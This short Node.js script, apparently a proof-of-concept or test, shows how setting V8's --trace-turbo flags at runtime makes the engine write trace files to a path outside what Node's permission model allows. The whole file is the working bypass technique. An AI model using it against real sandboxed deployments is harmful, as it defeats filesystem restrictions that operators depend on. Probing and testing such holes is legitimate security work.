// V8 has flags that make it write files by itself. Whoever can set one writes past the permission model.
import v8 from "node:v8";
import { outside } from "./attempt.mjs";

v8.setFlagsFromString("--trace-turbo");
v8.setFlagsFromString(`--trace-turbo-path=${outside}`);
const hot = (limit) => {
  let sum = 0;
  for (let at = 0; at < 10_000; at++) sum += at * limit;
  return sum;
};
for (let at = 0; at < 3000; at++) hot(at);
process.stdout.write("flags were set\n");
